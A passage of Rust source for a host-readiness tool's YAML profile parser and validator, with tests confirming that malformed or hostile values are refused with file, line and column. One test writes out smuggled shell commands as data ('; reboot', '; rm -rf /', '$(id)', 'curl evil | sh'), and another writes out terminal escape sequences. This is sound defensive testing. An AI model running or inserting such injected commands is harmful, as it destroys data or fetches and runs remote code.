//! The YAML shapes of profile files and their validation: every mistake becomes an error
//! carrying the file, line and column, and a requirement is turned into a [`Check`] only when
//! it has exactly one kind key and valid values.
//!
//! Validation that needs a location runs inside the deserializer's visitors (serde_yaml_ng
//! gives an error raised there the line and column of the node being read): the name and the
//! condition type in their string visitors, each requirement — its kind, values, id and
//! whether an earlier one has the same id — in its mapping visitor.

use std::collections::{BTreeMap, HashMap};
use std::fmt;

use serde::Deserialize;
use serde::de::{self, DeserializeSeed, Deserializer, MapAccess, SeqAccess, Visitor};

use super::names;
use super::prescan;
use super::{
    Check, CommandCheck, DEFAULT_COMMAND_TIMEOUT, MAX_COMMAND_TIMEOUT, MIN_COMMAND_TIMEOUT,
    ProfileError, Requirement,
};
use crate::finding::Level;

fn default_multipath_devices() -> Vec<String> {
    vec!["sda".into(), "sdb".into(), "sdz".into()]
}

fn default_nfs_versions() -> Vec<String> {
    ["4", "4.0", "4.1", "4.2"].map(String::from).to_vec()
}

/// The YAML shape of a profile file.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub(super) struct RawProfile {
    #[serde(deserialize_with = "profile_name")]
    pub(super) name: String,
    #[serde(default)]
    pub(super) description: String,
    #[serde(default, deserialize_with = "condition_type")]
    pub(super) condition: Option<String>,
    #[serde(default)]
    pub(super) include: Vec<String>,
    #[serde(default)]
    pub(super) requirements: Requirements,
    /// This file's own source keys (`sources.rs`).
    #[serde(default)]
    pub(super) sources: BTreeMap<String, String>,
}

/// A string checked by `check` inside its visitor, so a refusal carries the scalar's location.
struct CheckedStr(fn(&str) -> Result<(), String>);

impl Visitor<'_> for CheckedStr {
    type Value = String;

    fn expecting(&self, f: &mut fmt::Formatter) -> fmt::Result {
        f.write_str("a string")
    }

    fn visit_str<E: de::Error>(self, v: &str) -> Result<String, E> {
        (self.0)(v).map_err(E::custom)?;
        Ok(v.to_string())
    }
}

fn profile_name<'de, D: Deserializer<'de>>(d: D) -> Result<String, D::Error> {
    d.deserialize_str(CheckedStr(names::check_name))
}

fn condition_type<'de, D: Deserializer<'de>>(d: D) -> Result<Option<String>, D::Error> {
    d.deserialize_str(CheckedStr(names::check_condition_type))
        .map(Some)
}

/// A profile's requirements, in order, with unique ids.
#[derive(Debug, Default)]
pub(super) struct Requirements(pub(super) Vec<Requirement>);

impl<'de> Deserialize<'de> for Requirements {
    fn deserialize<D: Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        d.deserialize_seq(RequirementsVisitor)
    }
}

struct RequirementsVisitor;

impl<'de> Visitor<'de> for RequirementsVisitor {
    type Value = Requirements;

    fn expecting(&self, f: &mut fmt::Formatter) -> fmt::Result {
        f.write_str("a list of requirements")
    }

    fn visit_seq<A: SeqAccess<'de>>(self, mut seq: A) -> Result<Requirements, A::Error> {
        let mut out = Vec::new();
        let mut seen: HashMap<String, usize> = HashMap::new();
        while let Some(r) = seq.next_element_seed(RequirementSeed { seen: &seen })? {
            seen.insert(r.id.clone(), out.len() + 1);
            out.push(r);
        }
        Ok(Requirements(out))
    }
}

/// One requirement, read knowing the ids before it (1-based positions) to refuse a repeat.
struct RequirementSeed<'a> {
    seen: &'a HashMap<String, usize>,
}

impl<'de> DeserializeSeed<'de> for RequirementSeed<'_> {
    type Value = Requirement;

    fn deserialize<D: Deserializer<'de>>(self, d: D) -> Result<Requirement, D::Error> {
        d.deserialize_map(self)
    }
}

impl<'de> Visitor<'de> for RequirementSeed<'_> {
    type Value = Requirement;

    fn expecting(&self, f: &mut fmt::Formatter) -> fmt::Result {
        f.write_str("a requirement (a mapping with one kind key)")
    }

    fn visit_map<A: MapAccess<'de>>(self, map: A) -> Result<Requirement, A::Error> {
        let fields = RawRequirementFields::deserialize(de::value::MapAccessDeserializer::new(map))?;
        let r = requirement(fields).map_err(de::Error::custom)?;
        if let Some(earlier) = self.seen.get(&r.id) {
            return Err(de::Error::custom(format!(
                "requirement id {:?} appears twice (requirement {earlier} of this file has it \
                 too); give one of them another `id:`",
                r.id
            )));
        }
        Ok(r)
    }
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct RawRequirementFields {
    id: Option<String>,
    #[serde(default)]
    level: Level,
    description: Option<String>,
    #[serde(default)]
    packages: BTreeMap<String, String>,
    /// Where the requirement comes from (`sources.rs`).
    source: Option<super::sources::Specs>,
    executable: Option<String>,
    kernel_module: Option<String>,
    /// Only with `kernel_module`: the `CONFIG_` option that builds it.
    config: Option<String>,
    service: Option<ServiceFields>,
    multipathd: Option<MultipathFields>,
    nfs_client: Option<Empty>,
    /// `nfs_default_version` is its first name, still accepted.
    #[serde(alias = "nfs_default_version")]
    nfs_defaultvers: Option<NfsDefaultversFields>,
    hugepages: Option<HugepageFields>,
    cpu_flags: Option<BTreeMap<String, Vec<String>>>,
    kernel_version: Option<KernelVersionFields>,
    mount_propagation: Option<MountFields>,
    command: Option<Vec<String>>,
    /// Only with `command`: its deadline, such as `5s` or `500ms`.
    timeout: Option<String>,
    /// Only with `command`: `unknown` (default) or `fail`.
    on_timeout: Option<crate::finding::Status>,
    /// Only with `command`: extra environment variables.
    env: Option<BTreeMap<String, String>>,
    sysctl: Option<SysctlFields>,
    cgroup: Option<CgroupFields>,
    swap: Option<SwapFields>,
    module_parameter: Option<ModuleParameterFields>,
    module_version: Option<ModuleVersionFields>,
    cri_socket: Option<CriSocketFields>,
    data_path: Option<DataPathFields>,
    raw_disks: Option<RawDisksFields>,
    kernel_config: Option<KernelConfigFields>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Empty {}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct ServiceFields {
    name: String,
    process: Option<String>,
    socket: Option<String>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct MultipathFields {
    #[serde(default = "default_multipath_devices")]
    devices: Vec<String>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct NfsDefaultversFields {
    #[serde(default = "default_nfs_versions")]
    allowed: Vec<String>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct HugepageFields {
    page_size_kib: u64,
    min_pages: u64,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct KernelVersionFields {
    min: String,
    #[serde(default)]
    known_bad: Vec<String>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct MountFields {
    path: String,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct CriSocketFields {
    #[serde(default)]
    paths: Vec<String>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct DataPathFields {
    path: String,
    #[serde(default)]
    filesystems: Vec<String>,
    min_free_gib: Option<u64>,
    #[serde(default)]
    forbid_options: Vec<String>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct RawDisksFields {
    #[serde(default = "one")]
    min_count: u64,
    #[serde(default)]
    min_size_gib: u64,
    #[serde(default)]
    include: Vec<String>,
}

fn one() -> u64 {
    1
}

/// `kernel_config: {require: [...], forbid: [...]}`. An option system-validators calls
/// optional is a second `kernel_config` requirement with `level: recommended` (and its own
/// `id:`): how much a requirement matters is its level everywhere, not a key of one family.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct KernelConfigFields {
    #[serde(default)]
    require: Vec<String>,
    #[serde(default)]
    forbid: Vec<String>,
}

/// The most entries one `kernel_config` requirement lists: DefaultSysSpec names about 30
/// options in all; a bound keeps the per-option evidence of one finding small.
pub const MAX_KERNEL_CONFIG_ENTRIES: usize = 128;

/// Validates a `kernel_config` requirement's entries (grammar, count, no option both
/// required and forbidden).
fn kernel_config_check(k: KernelConfigFields) -> Result<Check, String> {
    if k.require.is_empty() && k.forbid.is_empty() {
        return Err("kernel_config needs at least one option in `require` or `forbid`".into());
    }
    let n = k.require.len() + k.forbid.len();
    if n > MAX_KERNEL_CONFIG_ENTRIES {
        return Err(format!(
            "kernel_config lists {n} options; at most {MAX_KERNEL_CONFIG_ENTRIES} per requirement (split it)"
        ));
    }
    for e in &k.require {
        names::check_kernel_config_entry(e)?;
    }
    for e in &k.forbid {
        if e.contains('|') {
            return Err(format!(
                "kernel_config.forbid entry {e:?}: alternatives (|) only go in `require`; list each forbidden option"
            ));
        }
        names::check_kernel_config_entry(e)?;
    }
    // Each option once: its value is one evidence key of the finding, and an option both
    // required and forbidden could never pass.
    let mut required = std::collections::BTreeSet::new();
    for name in k.require.iter().flat_map(|e| e.split('|')) {
        if !required.insert(name) {
            return Err(format!("kernel_config option {name} is listed twice"));
        }
    }
    let mut forbidden = std::collections::BTreeSet::new();
    for name in &k.forbid {
        if required.contains(name.as_str()) {
            return Err(format!(
                "kernel_config option {name} is both required and forbidden"
            ));
        }
        if !forbidden.insert(name.as_str()) {
            return Err(format!("kernel_config option {name} is listed twice"));
        }
    }
    Ok(Check::KernelConfig {
        require: k.require,
        forbid: k.forbid,
    })
}

/// The node-side families of issue 13 (`cri_socket`, `data_path`, `raw_disks`): their values
/// checked, one [`Check`] each.
fn node_family_kinds(
    cri: Option<CriSocketFields>,
    data: Option<DataPathFields>,
    disks: Option<RawDisksFields>,
    kinds: &mut Vec<Check>,
) -> Result<(), String> {
    if let Some(c) = cri {
        for p in &c.paths {
            names::check_command_path("cri_socket.paths", p)?;
        }
        kinds.push(Check::CriSocket { paths: c.paths });
    }
    if let Some(d) = data {
        names::check_command_path("data_path.path", &d.path)?;
        for f in &d.filesystems {
            names::check_fs_type(f)?;
        }
        for o in &d.forbid_options {
            names::check_mount_option(o)?;
        }
        kinds.push(Check::DataPath(crate::checks::data_path::DataPath {
            path: d.path,
            filesystems: d.filesystems,
            min_free_gib: d.min_free_gib,
            forbid_options: d.forbid_options,
        }));
    }
    if let Some(r) = disks {
        if r.min_count == 0 {
            return Err("raw_disks.min_count must be at least 1".into());
        }
        for p in &r.include {
            names::check_device_prefix(p)?;
        }
        kinds.push(Check::RawDisks(crate::checks::disk::RawDisks {
            min_count: r.min_count,
            min_size_gib: r.min_size_gib,
            include: r.include,
        }));
    }
    Ok(())
}

const KIND_KEYS: &str = "executable, kernel_module, service, multipathd, nfs_client, nfs_defaultvers, hugepages, cpu_flags, kernel_version, kernel_config, mount_propagation, command, sysctl, cgroup, swap, module_parameter, module_version, cri_socket, data_path, raw_disks";

// The kernel-side families of issue 13: `sysctl`, `cgroup`, `swap`, `module_parameter`,
// `module_version` (docs: keys13).

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct SysctlFields {
    name: String,
    /// A number is accepted as written (`value: 1`), since YAML reads it as one.
    value: ScalarString,
    #[serde(default)]
    persist: bool,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct CgroupFields {
    version: Option<u8>,
    #[serde(default)]
    controllers: Vec<String>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct SwapFields {
    #[serde(default)]
    enabled: bool,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct ModuleParameterFields {
    module: String,
    parameter: String,
    value: ScalarString,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct ModuleVersionFields {
    module: String,
    min: ScalarString,
}

/// A scalar read as text: YAML makes `1` a number and `N` a string, and a profile author
/// means the text in both (`value: 1`, `min: 9.2` — where `9.2` would otherwise be a float).
#[derive(Debug)]
struct ScalarString(String);

impl<'de> Deserialize<'de> for ScalarString {
    fn deserialize<D: Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        struct V;
        impl Visitor<'_> for V {
            type Value = ScalarString;
            fn expecting(&self, f: &mut fmt::Formatter) -> fmt::Result {
                f.write_str("a string or number")
            }
            fn visit_str<E: de::Error>(self, v: &str) -> Result<ScalarString, E> {
                Ok(ScalarString(v.to_string()))
            }
            fn visit_u64<E: de::Error>(self, v: u64) -> Result<ScalarString, E> {
                Ok(ScalarString(v.to_string()))
            }
            fn visit_i64<E: de::Error>(self, v: i64) -> Result<ScalarString, E> {
                Ok(ScalarString(v.to_string()))
            }
            fn visit_f64<E: de::Error>(self, _: f64) -> Result<ScalarString, E> {
                // `9.10` would read as 9.1: refuse rather than compare the wrong version.
                Err(E::custom(
                    "quote this value (\"9.10\"): YAML reads it as a number and drops digits",
                ))
            }
            fn visit_bool<E: de::Error>(self, _: bool) -> Result<ScalarString, E> {
                Err(E::custom(
                    "quote this value (\"Y\", \"N\", \"1\", \"0\"): YAML reads true and false as booleans",
                ))
            }
        }
        d.deserialize_any(V)
    }
}

/// Turns the kernel-side families' fields into checks, validating every value.
fn kernel_side_checks(
    sysctl: Option<SysctlFields>,
    cgroup: Option<CgroupFields>,
    swap: Option<SwapFields>,
    module_parameter: Option<ModuleParameterFields>,
    module_version: Option<ModuleVersionFields>,
) -> Result<Vec<Check>, String> {
    let mut kinds = Vec::new();
    if let Some(s) = sysctl {
        names::check_sysctl_name(&s.name)?;
        // Tabs and runs of spaces are how the kernel writes multi-value parameters; the
        // normalised value is what is compared and printed.
        let value = hostready_host::sysctl::normalize(&s.value.0);
        names::check_setting_value("sysctl value", &value)?;
        kinds.push(Check::Sysctl {
            name: hostready_host::sysctl::dotted(&s.name),
            value,
            persist: s.persist,
        });
    }
    if let Some(c) = cgroup {
        if let Some(v) = c.version {
            if v != 1 && v != 2 {
                return Err(format!("cgroup version {v} must be 1 or 2"));
            }
        }
        for name in &c.controllers {
            names::check_controller(name)?;
        }
        kinds.push(Check::Cgroup {
            version: c.version,
            controllers: c.controllers,
        });
    }
    if let Some(s) = swap {
        kinds.push(Check::Swap { enabled: s.enabled });
    }
    if let Some(m) = module_parameter {
        names::check_module(&m.module)?;
        names::check_module_parameter(&m.parameter)?;
        names::check_setting_value("module parameter value", &m.value.0)?;
        kinds.push(Check::ModuleParameter {
            module: m.module,
            parameter: m.parameter,
            value: m.value.0.trim().to_string(),
        });
    }
    if let Some(m) = module_version {
        names::check_module(&m.module)?;
        if hostready_host::modparam::version_numbers(&m.min.0).is_none() {
            return Err(format!(
                "module_version min {:?} is not a version (numbers separated by dots, such as 9.0.0)",
                m.min.0
            ));
        }
        kinds.push(Check::ModuleVersion {
            module: m.module,
            min: m.min.0,
        });
    }
    Ok(kinds)
}

/// Turns a requirement's fields into a [`Requirement`]: exactly one kind, valid values, a
/// valid id.
fn requirement(r: RawRequirementFields) -> Result<Requirement, String> {
    let mut kinds: Vec<Check> = Vec::new();
    if let Some(name) = r.executable {
        if name.is_empty() || name.contains('\0') {
            return Err("executable must be a non-empty name or absolute path".into());
        }
        kinds.push(Check::Executable(name));
    }
    for (family, names) in &r.packages {
        names::check_packages(family, names)?;
    }
    if let Some(name) = r.kernel_module {
        names::check_module(&name)?;
        if let Some(c) = &r.config {
            names::check_config_option(c)?;
        }
        kinds.push(Check::KernelModule {
            name,
            config: r.config.clone(),
        });
    } else if r.config.is_some() {
        return Err("`config` only goes with `kernel_module`".into());
    }
    if let Some(s) = r.service {
        names::check_service(&s.name)?;
        if let Some(sock) = &s.socket {
            names::check_socket(sock)?;
        }
        kinds.push(Check::Service {
            name: s.name,
            process: s.process,
            socket: s.socket,
        });
    }
    if let Some(m) = r.multipathd {
        kinds.push(Check::Multipathd { devices: m.devices });
    }
    if r.nfs_client.is_some() {
        kinds.push(Check::NfsClient {});
    }
    if let Some(n) = r.nfs_defaultvers {
        kinds.push(Check::NfsDefaultvers { allowed: n.allowed });
    }
    if let Some(h) = r.hugepages {
        kinds.push(Check::Hugepages {
            page_size_kib: h.page_size_kib,
            min_pages: h.min_pages,
        });
    }
    if let Some(c) = r.cpu_flags {
        kinds.push(Check::CpuFlags(c));
    }
    if let Some(k) = r.kernel_version {
        use crate::checks::kernel::{BadRelease, MinKernel};
        kinds.push(Check::KernelVersion {
            min: MinKernel::parse(&k.min)?,
            known_bad: k
                .known_bad
                .iter()
                .map(|b| BadRelease::parse(b))
                .collect::<Result<_, _>>()?,
        });
    }
    if let Some(m) = r.mount_propagation {
        names::check_command_path("mount_propagation.path", &m.path)?;
        kinds.push(Check::MountPropagation { path: m.path });
    }
    node_family_kinds(r.cri_socket, r.data_path, r.raw_disks, &mut kinds)?;
    if let Some(k) = r.kernel_config {
        kinds.push(kernel_config_check(k)?);
    }
    if let Some(argv) = r.command {
        kinds.push(Check::Command(command_check(
            argv,
            r.timeout,
            r.on_timeout,
            r.env.unwrap_or_default(),
        )?));
    } else if r.timeout.is_some() || r.on_timeout.is_some() || r.env.is_some() {
        return Err("`timeout`, `on_timeout` and `env` only go with `command`".into());
    }
    kinds.extend(kernel_side_checks(
        r.sysctl,
        r.cgroup,
        r.swap,
        r.module_parameter,
        r.module_version,
    )?);
    let check = match kinds.len() {
        1 => kinds.remove(0),
        0 => return Err(format!("a requirement needs one of: {KIND_KEYS}")),
        _ => {
            return Err(
                "a requirement has exactly one kind key; split it into several requirements".into(),
            );
        }
    };
    let id = match r.id {
        Some(id) => {
            names::check_id(&id)?;
            id
        }
        None => {
            let id = check.default_id();
            names::check_id(&id).map_err(|e| {
                format!("{e} (it is the default id of this requirement: give it an `id:`)")
            })?;
            id
        }
    };
    Ok(Requirement {
        id,
        level: r.level,
        description: r.description,
        packages: r.packages,
        sources: super::sources::specs(r.source)?,
        check,
    })
}

fn command_check(
    argv: Vec<String>,
    timeout: Option<String>,
    on_timeout: Option<crate::finding::Status>,
    env: BTreeMap<String, String>,
) -> Result<CommandCheck, String> {
    use crate::finding::Status;
    match argv.first() {
        None => return Err("command needs at least a program".into()),
        Some(p) if !p.starts_with('/') => {
            return Err(format!(
                "command program {p:?} must be an absolute path (no PATH search, no shell)"
            ));
        }
        Some(_) => {}
    }
    if argv.iter().any(|a| a.contains('\0')) {
        return Err("command arguments cannot contain NUL".into());
    }
    let timeout = match timeout {
        None => DEFAULT_COMMAND_TIMEOUT,
        Some(t) => humantime::parse_duration(&t).map_err(|e| format!("timeout {t:?}: {e}"))?,
    };
    if timeout < MIN_COMMAND_TIMEOUT || timeout > MAX_COMMAND_TIMEOUT {
        return Err(format!(
            "timeout {} must be between {} and {}",
            humantime::format_duration(timeout),
            humantime::format_duration(MIN_COMMAND_TIMEOUT),
            humantime::format_duration(MAX_COMMAND_TIMEOUT)
        ));
    }
    for (k, v) in &env {
        names::check_env(k, v)?;
    }
    let on_timeout = on_timeout.unwrap_or(Status::Unknown);
    if !matches!(on_timeout, Status::Unknown | Status::Fail) {
        return Err("on_timeout is `unknown` or `fail`".into());
    }
    Ok(CommandCheck {
        argv,
        timeout,
        on_timeout,
        env,
    })
}

/// Parses one profile's YAML without expanding its includes: a leading byte-order mark is
/// dropped (editors on Windows write one), the nesting depth is bounded by
/// [`prescan::nesting_depth`] before the parser runs, then the YAML is parsed and validated.
pub(super) fn parse(text: &str, file: &str) -> Result<RawProfile, ProfileError> {
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    prescan::nesting_depth(text, prescan::MAX_DEPTH).map_err(|at| ProfileError::Invalid {
        file: file.to_string(),
        line: at.line,
        column: at.column,
        message: format!(
            "collections nest deeper than {} levels (a profile needs about five)",
            prescan::MAX_DEPTH
        ),
    })?;
    serde_yaml_ng::from_str(text).map_err(|e| match e.location() {
        Some(loc) => ProfileError::Invalid {
            file: file.to_string(),
            line: loc.line(),
            column: loc.column(),
            message: strip_location(&e.to_string()),
        },
        None => ProfileError::InvalidNoLocation {
            file: file.to_string(),
            message: e.to_string(),
        },
    })
}

/// serde_yaml puts " at line L column C" in its message; we print the location ourselves.
fn strip_location(message: &str) -> String {
    match message.rfind(" at line ") {
        Some(i) => message[..i].to_string(),
        None => message.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::profile::Check;

    fn parse_err(text: &str) -> String {
        match parse(text, "my.yaml") {
            Err(e) => e.to_string(),
            Ok(p) => panic!("parsed: {p:?}"),
        }
    }

    #[test]
    fn mistakes_name_file_line_and_column() {
        let e = parse_err("name: x\nrequirements:\n  - executable: a\n    levle: required\n");
        assert!(e.starts_with("my.yaml:4:"), "{e}");
        assert!(e.contains("levle"), "{e}");
        let e = parse_err("name: x\nrequirements:\n  - id: a\n");
        assert!(e.starts_with("my.yaml:3:"), "{e}");
        assert!(e.contains("needs one of"), "{e}");
        let e = parse_err("name: x\nrequirements:\n  - executable: a\n    kernel_module: b\n");
        assert!(e.contains("exactly one kind"), "{e}");
        let e = parse_err("name: x\nrequirements:\n  - executable: a\n    level: mandatory\n");
        assert!(e.starts_with("my.yaml:4:"), "{e}");
        let e = parse_err("name: x\nrequirements:\n  - kernel_version: {min: five}\n");
        assert!(e.contains("five"), "{e}");
        let e = parse_err("name: x\nrequirements: [\n");
        assert!(e.starts_with("my.yaml:"), "{e}");
        let e = parse_err("name: x\nrequirements:\n  - executable: a\n  - executable: a\n");
        assert!(e.contains("twice"), "{e}");
    }

    /// `nfs_defaultvers` (the name of its id, `nfs.defaultvers`, and its code) and its first
    /// name `nfs_default_version` are one kind; kernel rules are parsed when the file loads.
    #[test]
    fn kinds_parse_into_typed_values() {
        for key in ["nfs_defaultvers", "nfs_default_version"] {
            let p = parse(
                &format!("name: x\nrequirements:\n  - {key}: {{allowed: ['4.2']}}\n"),
                "my.yaml",
            )
            .unwrap();
            assert_eq!(p.requirements.0[0].id, "nfs.defaultvers");
            assert_eq!(
                p.requirements.0[0].check,
                Check::NfsDefaultvers {
                    allowed: vec!["4.2".into()]
                }
            );
        }
        let p = parse(
            "name: x\nrequirements:\n  - kernel_version: {min: '5.8', known_bad: [5.15.0-94..5.15.0-99]}\n",
            "my.yaml",
        )
        .unwrap();
        let Check::KernelVersion { min, known_bad } = &p.requirements.0[0].check else {
            panic!("{p:?}")
        };
        assert_eq!((min.text.as_str(), min.version), ("5.8", (5, 8, 0)));
        assert!(known_bad[0].rule.matches("5.15.0-97-generic"));
        // Listings and JSON show them as written.
        let json = serde_json::to_value(&p.requirements.0[0].check).unwrap();
        assert_eq!(
            json,
            serde_json::json!({"kernel_version": {"min": "5.8", "known_bad": ["5.15.0-94..5.15.0-99"]}})
        );
        let e = parse_err(
            "name: x\nrequirements:\n  - kernel_version: {min: '5.8', known_bad: [x..y]}\n",
        );
        assert!(e.contains("known_bad range"), "{e}");
    }

    #[test]
    fn command_checks_parse_and_validate() {
        let p = parse(
            "name: x\nrequirements:\n  - id: custom.disk-alive\n    command: [\"/usr/local/bin/check-disk\", \"--dev\", \"sdb\"]\n    timeout: 5s\n",
            "my.yaml",
        )
        .unwrap();
        let Check::Command(c) = &p.requirements.0[0].check else {
            panic!()
        };
        assert_eq!(c.argv, ["/usr/local/bin/check-disk", "--dev", "sdb"]);
        assert_eq!(c.timeout, std::time::Duration::from_secs(5));
        assert_eq!(p.requirements.0[0].id, "custom.disk-alive");
        let e = parse_err("name: x\nrequirements:\n  - command: [check-disk]\n");
        assert!(e.contains("absolute"), "{e}");
        let e = parse_err("name: x\nrequirements:\n  - command: [/bin/x]\n    timeout: soon\n");
        assert!(e.starts_with("my.yaml:3:") && e.contains("soon"), "{e}");
        let e = parse_err("name: x\nrequirements:\n  - executable: x\n    timeout: 5s\n");
        assert!(e.contains("only go with `command`"), "{e}");
        let e = parse_err("name: x\nrequirements:\n  - command: [/bin/x]\n    on_timeout: pass\n");
        assert!(e.contains("on_timeout"), "{e}");
    }
}

/// Regression tests for the validation gaps of issue 10: each mistake is refused with the
/// line and column of the node that holds it.
#[cfg(test)]
mod gap_tests {
    use super::*;

    /// Returns the error of parsing `text` as `my.yaml`, asserting it starts with `at`.
    fn refused_at(text: &str, at: &str) -> String {
        match parse(text, "my.yaml") {
            Err(e) => {
                let e = e.to_string();
                assert!(e.starts_with(&format!("my.yaml:{at}: ")), "want {at}: {e}");
                e
            }
            Ok(p) => panic!("parsed: {p:?}"),
        }
    }

    #[test]
    fn an_error_in_a_later_requirement_names_its_own_line() {
        let e = refused_at(
            "name: x\nrequirements:\n  - executable: a\n  - executable: b\n\n  - id: q\n",
            "6:5",
        );
        assert!(e.contains("needs one of"), "{e}");
    }

    #[test]
    fn duplicate_ids_name_the_second_one() {
        let e = refused_at(
            "name: x\nrequirements:\n  - executable: a\n  - id: q\n    executable: b\n  - executable: a\n",
            "6:5",
        );
        assert!(
            e.contains("\"exe.a\" appears twice") && e.contains("requirement 1"),
            "{e}"
        );
        refused_at(
            "name: x\nrequirements: [{id: q, executable: a}, {id: q, nfs_client: {}}]\n",
            "2:40",
        );
    }

    #[test]
    fn an_empty_or_unprintable_name_is_refused_where_it_is() {
        let e = refused_at("name: \"\"\nrequirements: []\n", "1:7");
        assert!(e.contains("`name` is empty"), "{e}");
        refused_at("description: d\nname: \"x\\e[32mPASS\"\n", "2:7");
    }

    #[test]
    fn a_leading_byte_order_mark_is_accepted() {
        for text in [
            "\u{feff}name: x\nrequirements:\n  - executable: a\n",
            "\u{feff}# mine\nname: x\n",
            "\u{feff}---\nname: x\n",
        ] {
            let p = parse(text, "my.yaml").unwrap_or_else(|e| panic!("{text:?}: {e}"));
            assert_eq!(p.name, "x");
        }
        // Columns of the first line are the ones an editor shows (the mark is invisible).
        refused_at("\u{feff}name: \"\"\n", "1:7");
    }

    #[test]
    fn timeouts_below_one_millisecond_are_refused() {
        for t in ["1ns", "999us", "0s"] {
            let e = refused_at(
                &format!("name: x\nrequirements:\n  - command: [/bin/true]\n    timeout: {t}\n"),
                "3:5",
            );
            assert!(e.contains("between 1ms and 10m"), "{e}");
        }
        let p = parse(
            "name: x\nrequirements:\n  - command: [/bin/true]\n    timeout: 1ms\n",
            "my.yaml",
        )
        .unwrap();
        let Check::Command(c) = &p.requirements.0[0].check else {
            panic!()
        };
        assert_eq!(c.timeout, MIN_COMMAND_TIMEOUT);
    }

    #[test]
    fn nul_and_equals_in_env_and_nul_in_argv_are_refused() {
        for (env, what) in [
            ("{\"A\\0B\": x}", "env name"),
            ("{\"A=B\": x}", "env name"),
            ("{\"\": x}", "env name"),
            ("{A: \"x\\0y\"}", "cannot contain NUL"),
        ] {
            let e = refused_at(
                &format!("name: x\nrequirements:\n  - command: [/bin/true]\n    env: {env}\n"),
                "3:5",
            );
            assert!(e.contains(what), "{env}: {e}");
        }
        let e = refused_at(
            "name: x\nrequirements:\n  - id: a\n    command: [/bin/true, \"a\\0b\"]\n",
            "3:5",
        );
        assert!(e.contains("NUL"), "{e}");
    }

    #[test]
    fn ids_with_control_characters_are_refused() {
        for id in [
            "\"a\\e[31m\"",
            "\"a\\0\"",
            "\"a\\tb\"",
            "\"a\\x7f\"",
            "\"ok\\nFAIL\"",
            "\"é\"",
        ] {
            let e = refused_at(
                &format!(
                    "name: x\nrequirements:\n  - executable: a\n  - id: {id}\n    executable: b\n"
                ),
                "4:5",
            );
            assert!(e.contains("requirement id"), "{id}: {e}");
        }
        // A default id made from a hostile executable name is refused too, and says so.
        let e = refused_at(
            "name: x\nrequirements:\n  - executable: \"a\\e[2J\"\n",
            "3:5",
        );
        assert!(e.contains("default id"), "{e}");
    }

    #[test]
    fn values_shown_in_suggested_commands_are_refused_unless_plain() {
        for (req, what) in [
            ("kernel_module: \"iscsi_tcp; reboot\"", "kernel module"),
            ("kernel_module: ../../etc/x", "kernel module"),
            (
                "{kernel_module: a, config: \"CONFIG_A $(id)\"}",
                "config option",
            ),
            ("service: {name: \"x && reboot\"}", "service name"),
            (
                "mount_propagation: {path: \"/var/lib/x; rm -rf /\"}",
                "mount_propagation.path",
            ),
            (
                "{executable: a, packages: {debian: \"ok; curl evil | sh\"}}",
                "package name",
            ),
        ] {
            let e = refused_at(&format!("name: x\nrequirements:\n  - {req}\n"), "3:5");
            assert!(e.contains(what), "{req}: {e}");
        }
    }

    #[test]
    fn kubelet_and_invalid_condition_types_are_refused() {
        for c in [
            "Ready",
            "ready",
            "MemoryPressure",
            "PIDPressure",
            "DiskPressure",
            "NetworkUnavailable",
            "kubernetes.io/Mine",
            "Not Valid",
            "\"\"",
        ] {
            let e = refused_at(&format!("name: x\ncondition: {c}\n"), "2:12");
            assert!(e.contains("condition type"), "{c}: {e}");
        }
        let p = parse("name: x\ncondition: example.com/StorageReady\n", "my.yaml").unwrap();
        assert_eq!(p.condition.as_deref(), Some("example.com/StorageReady"));
    }

    #[test]
    fn deep_nesting_is_refused_before_parsing() {
        // 200 KB of `[`: libyaml alone took minutes on this; the pre-scan stops at level 33.
        let text = format!("name: x\nrequirements: {}\n", "[".repeat(200_000));
        let e = refused_at(&text, "2:46");
        assert!(e.contains("nest deeper than 32"), "{e}");
        let text = format!("name: x\nrequirements:\n{}", "  - ".repeat(40));
        refused_at(&text, "3:127");
    }
}

/// The kernel-side keys of issue 13 (keys13): their default ids, typed values, and refusals
/// with the line and column of the mistake.
#[cfg(test)]
mod kernel_side_tests {
    use super::*;

    /// Parses one requirement, which must load.
    pub(super) fn ok(req: &str) -> Requirement {
        let p = parse(&format!("name: x\nrequirements:\n  - {req}\n"), "my.yaml")
            .unwrap_or_else(|e| panic!("{req}: {e}"));
        p.requirements.0.into_iter().next().unwrap()
    }

    /// Panics unless one requirement is refused at `at` (line:column) saying `what`.
    pub(super) fn refused(req: &str, at: &str, what: &str) {
        match parse(&format!("name: x\nrequirements:\n  - {req}\n"), "my.yaml") {
            Err(e) => {
                let e = e.to_string();
                assert!(
                    e.starts_with(&format!("my.yaml:{at}: ")),
                    "{req}: want {at}: {e}"
                );
                assert!(e.contains(what), "{req}: want {what:?}: {e}");
            }
            Ok(p) => panic!("{req}: parsed {p:?}"),
        }
    }

    #[test]
    fn keys_default_ids_and_values() {
        let r = ok("sysctl: {name: net.ipv4.ip_forward, value: 1, persist: true}");
        assert_eq!(r.id, "sysctl.net.ipv4.ip_forward");
        assert_eq!(
            r.check,
            Check::Sysctl {
